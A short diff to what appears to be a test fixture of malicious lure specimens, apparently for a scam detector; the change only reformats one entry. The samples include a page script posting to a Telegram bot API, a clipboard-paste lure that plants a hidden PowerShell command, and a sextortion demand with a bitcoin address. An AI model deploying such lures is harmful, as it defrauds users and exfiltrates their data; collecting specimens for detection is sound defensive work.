@@ -34,7 +34,8 @@ SPECIMENS = {
     "lure_page_that_reports_to_a_bot": b"<input id=a><script>fetch('https://api.telegram.org/bot1:A/sendMessage')</script>",
     "lure_paste_this_to_prove_you_are_human": b"Press <b>Windows</b> + <b>R</b>, then Ctrl + V "
     b"<script>navigator.clipboard.writeText('powershell -w h')</script>",
-    "lure_paid_or_shown": b"I recorded you by your webcam. Pay in bitcoin to bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq",
+    "lure_paid_or_shown": b"I recorded you by your webcam. "
+    b"Pay in bitcoin to bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq",
 }
 
 
